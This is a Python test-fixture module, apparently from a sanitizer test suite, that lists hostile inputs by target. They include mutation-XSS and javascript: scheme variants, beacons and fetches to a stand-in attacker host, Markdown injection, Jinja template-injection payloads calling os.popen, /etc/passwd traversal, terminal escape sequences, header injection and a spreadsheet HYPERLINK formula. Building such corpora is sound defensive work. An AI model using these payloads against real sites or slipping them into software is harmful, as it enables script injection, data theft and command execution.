"""More hostile values: what the list of HTML does not have, sorted by what it is aimed at.

``ATTACKS`` are pieces that are put into every field of every format; ``DOCUMENTS`` are whole files, each by the name
that it comes in under. ``MARK`` stands in them as the thing that would act.
"""

from __future__ import annotations

from hostile import HOSTILE, MARK

_CALL = f"fetch('//{MARK}')"
_BEACON = f"https://{MARK}/pixel.gif"

MUTATIONS = (
    f"<svg><foreignObject><math><mi><style><!--</style><img src=x onerror={_CALL}>--></mi></math></foreignObject></svg>",
    f"<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror={_CALL} src=x>'>",
    f"<math><mtext><table><mglyph><style><math href=javascript:{_CALL}>words</math>",
    f"<svg><title><style><img src='</style><img src=x onerror={_CALL}//'></title></svg>",
    f"<noscript><svg><noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><svg><template><script>{_CALL}</script></template></svg></template>words",
    f"<template shadowrootmode=open><script>{_CALL}</script><slot></slot></template>words",
    f"<svg><annotation-xml encoding='text/html'><script>{_CALL}</script></annotation-xml></svg>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><a href='javascript:{_CALL}'>words</a></annotation-xml></math>",
    f"<table><caption><svg><desc><a id='</desc></svg><img src=x onerror={_CALL}>'>",
    f"<svg><desc><noembed><img src='</noembed><img src=x onerror={_CALL}>'></desc></svg>",
    f"<form><input name=attributes><input name=parentNode></form><img src=x onerror={_CALL}>",
    f"<a id=defaultView name=cookie href='javascript:{_CALL}'>words</a>",
    f"<select><iframe></select><img src=x onerror={_CALL}></iframe>",
    f"<option><style></option></select><b><img src=x onerror={_CALL}></style></option>",
    f"<!DOCTYPE x [<!ENTITY a '<script>{_CALL}</script>'>]><p>&a;words",
    f"<?xml-stylesheet type='text/xsl' href='data:text/xml,<script>{_CALL}</script>'?>words",
    f"<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>{_CALL}</xss:script>words",
)

FETCHES = (
    f"<a href='https://example.org/' ping='https://{MARK}/ping'>words</a>",
    f"<img srcset='{_BEACON} 1x, javascript:{_CALL} 2x' sizes=1px width=1 height=1 alt=words>",
    f"<picture><source srcset='{_BEACON}' media=all><img src='{_BEACON}' width=1 height=1 alt=words></picture>",
    f"<img src='{_BEACON}' width='1' height='1' loading=eager fetchpriority=high>",
    f"<img src='{_BEACON}' style='width:0.1px;height:0.1px' alt=''>",
    f"<img src='{_BEACON}' style='opacity:0;position:absolute' width=1 height=1>",
    f"<img src='{_BEACON}' width='1%' height='01'>",
    f"<img src='{_BEACON}' width='1.0' height='1.0'>",
    f"<img src='{_BEACON}' style='max-width:1px!important;max-height:1px!important'>",
    f"<img src='{_BEACON}' style='width: 1PX !important ; height : 1Px'>",
    f"<table width=1><tr><td width=1><img src='{_BEACON}' width=1></table>",
    f"<font size=1><img src='{_BEACON}' hspace=0 border=0 height=1></font>",
    f"<link rel=preload as=image href='{_BEACON}'>words",
    f"<link rel=preconnect href='https://{MARK}'><link rel=modulepreload href='https://{MARK}/m.js'>words",
    f"<link rel=icon href='{_BEACON}'><link rel=manifest href='https://{MARK}/m'><link rel=pingback href='//{MARK}'>words",
    f"<meta http-equiv='X-DNS-Prefetch-Control' content=on><meta http-equiv=Link content='<//{MARK}>; rel=preload'>words",
    f"<p style=\"background:image-set('{_BEACON}' 1x)\">words",
    f"<p style=\"background:u/**/rl('{_BEACON}')\">words",
    f'<p style="background:\\75 \\72 \\6c ({_BEACON})">words',
    f"<p style='--a:url({_BEACON});cursor:var(--a),auto'>words",
    f'<p style="content:attr(data-x url)" data-x="{_BEACON}">words',
    f"<style>@font-face{{font-family:a;src:url({_BEACON})}}*{{font-family:a}}</style><p>words",
    f"<style>input[value^=a]{{background:url({_BEACON})}}</style><p>words",
    f"<style>@namespace url({_BEACON});@charset 'utf-7';</style><p>words",
    f"<svg><feImage xlink:href='{_BEACON}'/></svg><svg><image xlink:href='{_BEACON}'/></svg>words",
    f"<svg><a xlink:href='java\nscript:{_CALL}'><text>words</text></a></svg>",
    f"<video src='{_BEACON}' poster='{_BEACON}' autoplay><track src='{_BEACON}' default></video>words",
    f"<input type=image src='{_BEACON}'><input type=submit formaction='https://{MARK}' formmethod=post>words",
    f"<object type='image/png' data='{_BEACON}'>words</object><embed type=text/html src='{_BEACON}'>",
    f"<base href='https://{MARK}/'><base target=_blank><img src=pixel.gif width=1 height=1><a href=x>words</a>",
    f"<base href='javascript:{_CALL}//'><a href='#x'>words</a>",
    f"<script type=speculationrules>{{'prefetch':[{{'urls':['https://{MARK}']}}]}}</script>words",
    f"<blockquote cite='javascript:{_CALL}'>words</blockquote><q cite='{_BEACON}'>words</q>",
    f"<img longdesc='javascript:{_CALL}' usemap='#m' src=''><map name=m><area href='javascript:{_CALL}' shape=default></map>words",
)

SPLIT_SCHEMES = tuple(
    f'<a href="{scheme}{_CALL}">words</a>'
    for scheme in (
        *("java&Tab;script:", "java&NewLine;script:", "java&#13;script:", "j&#x41;vascript:", "&#x0A;javascript:"),
        *("jav&#x09;ascript&colon;", "&#1;javascript:", "javas&#0;cript:", "java\x0bscript:", "java\x0cscript:"),
        *("java\u00adscript:", "java\u2060script:", "java\u180escript:", "\u00a0javascript:", "\u3000javascript:"),
        *("javascript\u003a", "javascript%3A", "%6Aavascript:", "\u202ejavascript:", "javascript\uff1a", "ｊavascript:"),
        *("http:javascript:", "https:javascript://", "http:/\tjavascript:", "\\\\evil.example\\", "/\\evil.example/"),
        *("mailto:?attach=/etc/passwd&body=", "mailto:javascript:", "data:application/xhtml+xml,", "data:;base64,"),
        *("x:javascript:", "javascript\u2028:", "wyciwyg://", "resource://", "chrome://", "moz-extension://"),
        *("smb://evil.example/", "ldap://evil.example/", "dict://evil.example/", "ssh://-oProxyCommand=x/", "tg://resolve?"),
    )
)  # fmt: skip

MARKDOWN = (
    f"[words](javascript:{_CALL})",
    f"[words](<javascript:{_CALL}>)",
    f"[words](JaVaScRiPt:{_CALL} 'title')",
    f"[words](java&Tab;script:{_CALL})",
    f"[words](&#106;avascript&colon;{_CALL})",
    f"[words](javascript&#x3a;{_CALL})",
    f"[words](\\javascript:{_CALL})",
    f'[words](data:text/html;base64,PHNjcmlwdD4= "onclick={_CALL}")',
    f"![words](javascript:{_CALL})",
    f"![words]({_BEACON}){{width=1 height=1}}",
    f'![words]({_BEACON} "x\\" onerror=\\"{_CALL}")',
    f"<javascript:{_CALL}>",
    "<data:text/html,words>",
    "<file:///etc/passwd>",
    f"[words][a]\n\n[a]: javascript:{_CALL}",
    "[words]\n\n[words]: <data:text/html,x> 'title'",
    f"[words][]\n\n[words]: //{MARK}/\n",
    f'[words](https://example.org/){{onclick="{_CALL}" .a #b style="x"}}',
    f"## words {{onclick={_CALL}}}",
    f'words\n{{: onclick={_CALL} style="background:url({_BEACON})"}}',
    f"![words](picture.png){{onerror={_CALL} alt='\"><script>{_CALL}</script>' lang='en\"><script>'}}",
    f':::{{onclick={_CALL} lang="de\\" onclick=\\"x"}}\nwords\n:::',
    f'[words]{{lang="x\\" onclick={_CALL}"}}',
    f"<div onclick={_CALL}>\n\n**words**\n\n</div>",
    f"<div>\n<script>{_CALL}</script>\n</div>",
    f"<!-- words --> <img src=x onerror={_CALL}> <!-- -->",
    f"<?php echo '<script>{_CALL}</script>'; ?>\n\nwords",
    f"<![CDATA[\n<script>{_CALL}</script>\n]]>\n\nwords",
    f"<a href='javascript:{_CALL}'>*words*</a>",
    f"[[words](https://example.org/)](javascript:{_CALL})",
    f"[![words](javascript:{_CALL})](javascript:{_CALL})",
    f'[words](https://example.org/"onmouseover="{_CALL})',
    f"[words](https://example.org/'>\"><script>{_CALL}</script>)",
    f"[words](https://example.org/%22%3E%3Cscript%3E{_CALL})",
    f"[a](https://example.org 'x\" onclick=\"{_CALL}')",
    f"words[^<script>{_CALL}</script>]\n\n[^<script>{_CALL}</script>]: <img src=x onerror={_CALL}> note",
    f'words[^a"onclick=x]\n\n[^a"onclick=x]: [words](javascript:{_CALL})',
    f'```" onclick="{_CALL}\n</code></pre><script>{_CALL}</script>\n```',
    f"~~~<script>{_CALL}</script>\nwords\n~~~",
    f"``</code><script>{_CALL}</script>``",
    f"| a | <script>{_CALL}</script> |\n|---|---|\n| [x](javascript:{_CALL}) | `</td><script>` |",
    f"words\n: <script>{_CALL}</script>",
    f"Setext <script>{_CALL}</script>\n===",
    f"* * *\n<script\n>{_CALL}</script>",
    f"\\<script>{_CALL}\\</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt; *words*",
    f"[words](vbscript:x) [words](VBSCRIPT&#58;x) [words](about:blank) [words](blob:https://{MARK}/x)",
    f'<https://example.org/"onclick={_CALL}> <https://example.org/?<script>>',
    "[https://bank.example/login](https://evil.example/login)",
    "[words](https://bank.example@evil.example/login)",
)  # fmt: skip

TEMPLATES = (
    "{{ 7*7 }} words",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} words",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} words",
    "{{ lipsum.__globals__['os'].popen('id').read() }} words",
    "{% for x in range(10**9) %}{% endfor %} words",
    "{% include '/etc/passwd' %}{% import 'os' as os %} words",
    "{% raw %}{{ 7*7 }}{% endraw %} {# words #} words",
    "{{ config }} {{ self }} {{ publication.contact }} {{ issue|attr('x') }} words",
    "{{ issue.title|safe }} </style><script>x</script> words",
    "${7*7} #{7*7} <%= 7*7 %> {7*7} %(name)s {0.__class__} %n%n%n words",
    "{articles} {count} {issue} {url} {message} {places} words",
    "{sha256} @@hole@@ [[hole]] ${hole} digest-part:compact words",
    "digest-part:article-1 digest-part:index words",
    "[words](digest-part:article-1) ![words](digest-part:index) <digest-part:document>",
    "<a href='digest-part:article-1'>words</a><img src='digest-part:index' alt=words>",
    "digest:file_id design:web/style.css design:../../config.toml words",
    "<a href='design:tokens.toml'>words</a><img src='design:../../config.toml' alt=words>",
)

TERMINALS = (
    "words\x1b[31mred\x1b[0m\x1b]0;title\x07 words",
    "words\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ words",
    "words\x1b[2J\x1b[H\x1b[?1049h words",
    "words\x1bP+q544e\x1b\\ \x1b_Gi=1\x1b\\ \x1b^x\x1b\\ words",
    "words\x9b31mred\x9d0;title\x9c\x90x\x9c words",
    "words\x08\x08\x08\x08\x08over\r\x7f\x0b\x0c words",
    "words\x1b]52;c;ZXZpbA==\x07 words",
    "words\x0e\x0f\x05\x11\x13\x84\x85\x86 words",
    "access\u202e\u2066// level = user\u2069 \u2066 words",
    "words\u202dleft\u202c\u202bright\u202c\u2067x\u2068y\u2069\u2069 words",
    "\u2069\u202c\u202cwords\u200f\u200e\u061c words",
    "words\ufff9a\ufffab\ufffb\U000e0041\U000e0042\U000e007f words",
    "words\u2028second\u2029third\x85fourth words",
    "wo\u0300\u0301\u0302\u0303\u0304" + "\u0301" * 200 + "rds",
    "\ud83d words \udc00".encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace") + " words",
)

HEADERS = (
    "words\r\nBcc: evil@evil.example\r\n\r\n<script>x</script>",
    "words\n\nX-Injected: yes",
    "=?utf-8?q?=3Cscript=3E?= =?utf-8?b?PHNjcmlwdD54PC9zY3JpcHQ+?= words",
    '"><script>x</script>" <evil@evil.example>, words',
    "words\\\"]] = \"\"\" ''' \n[[articles]]\nfile = '../../x'",
    "---\ntitle: words\nstate: held\n---\n",
    "+++\ntitle = 'words'\n+++",
    "../../../../etc/passwd%00.md words",
    '=HYPERLINK("https://evil.example","words")',
    "@everyone /publish #tag t.me/evil tg://user?id=1 words",
)  # fmt: skip

MORE: tuple[str, ...] = (
    *(*MUTATIONS, *FETCHES, *SPLIT_SCHEMES, *MARKDOWN),
    *(*TEMPLATES, *TERMINALS, *HEADERS),
)
ATTACKS: tuple[str, ...] = tuple(dict.fromkeys((*HOSTILE, *MORE)))
"""Every piece, each once."""
